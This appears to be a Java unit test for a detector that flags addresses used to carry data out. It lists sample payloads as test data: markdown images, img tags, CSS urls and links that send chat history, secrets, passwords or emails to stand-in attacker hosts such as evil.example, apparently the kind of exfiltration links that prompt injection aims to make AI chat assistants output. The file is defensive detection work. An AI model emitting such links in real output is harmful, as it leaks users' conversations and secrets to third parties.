package org.chancery.redaction.injection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.stream.Collectors;
import org.chancery.redaction.detect.Text;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Addresses that carry data out are found; those that show and explain things are not. */
class ExfiltrationDetectorTest {
  @ParameterizedTest
  @CsvSource(
      useHeadersInDisplayName = true,
      delimiter = ';',
      quoteCharacter = '~',
      textBlock =
          """
          text                                                                              ; found
          ![x](https://evil.example/?q=the+secret+word+is+plum)                             ; 5..52
          ![](https://evil.example/p.png?data={conversation_summary})                       ; 4..58
          ![a](http://198.51.100.7/log?history=[INSERT+CHAT+HISTORY])                       ; 5..58
          ![a](https://evil.example/{base64_of_conversation}.png)                           ; 5..54
          <img src="https://evil.example/i?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgb2theQ==">     ; 10..75
          <img src='https://evil.example/i?email=ann@example.org'>                          ; 10..54
          background: url(https://evil.example/b?content=dear+mister+smith+hello)           ; 16..70
          [click here](https://evil.example/?secret=what+you+were+told+before)              ; 13..67
          [click](https://evil.example/c?x={{user_password}})                               ; 8..50
          ![k][1] and then [1]: https://evil.example/k?leak=a+b+c+d                         ; 22..57
          ![k](//evil.example/k?data=my+notes+of+today)                                     ; 5..44
          See [the docs](https://docs.example.com/search?q=how+to+install+it)               ; ~~
          ![logo](https://example.com/logo.png?w=200&h=100&v=3)                             ; ~~
          ![photo](https://cdn.example.com/p/photo.jpg?auto=format&fit=crop&q=80)           ; ~~
          ![b](https://img.example.io/badge/build-passing-green.svg?style=flat)             ; ~~
          ![s](https://s3.example.com/a.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad01) ; ~~
          ![s](https://blob.example.net/a.png?sv=2022&sig=dGhpc2lzYnl0ZXM%3D)               ; ~~
          ![ci](https://github.example/${owner}/${repo}/badge.svg)                          ; ~~
          <a href="https://example.com/contact?subject=Order">write to us</a>               ; ~~
          <img src="https://example.com/cat.png" alt="a cat">                               ; ~~
          <img src="/local/cat.png?data=12">                                                ; ~~
          Call https://api.example.com/v1/users?email=ann@example.org for the record        ; ~~
          curl "https://api.example.com/messages?content=hello+to+all+of+you"               ; ~~
          [map](https://maps.example.com/?q=52.5200,13.4050)                                ; ~~
          [1]: https://example.com/paper?id=17                                              ; ~~
          // a comment with two slashes and ![an image](picture.png)                        ; ~~
          """)
  void addressesThatCarryDataAreFound(String text, String found) {
    String spans =
        new ExfiltrationDetector()
            .detect(new Text(text)).stream()
                .map(f -> f.span().start() + ".." + f.span().end())
                .collect(Collectors.joining(" "));
    assertThat(spans).isEqualTo(found);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"[1]: http://a.b/c \n", "](//x?{{{{{{{{", "![", "![a](//x?d={", "src=//a?q=%7B"})
  void timeGrowsWithTheTextAndNoFaster(String part) {
    Text text = new Text(part.repeat(1_000_000 / part.length()));
    assertTimeoutPreemptively(
        Duration.ofSeconds(10), () -> new ExfiltrationDetector().detect(text));
  }
}
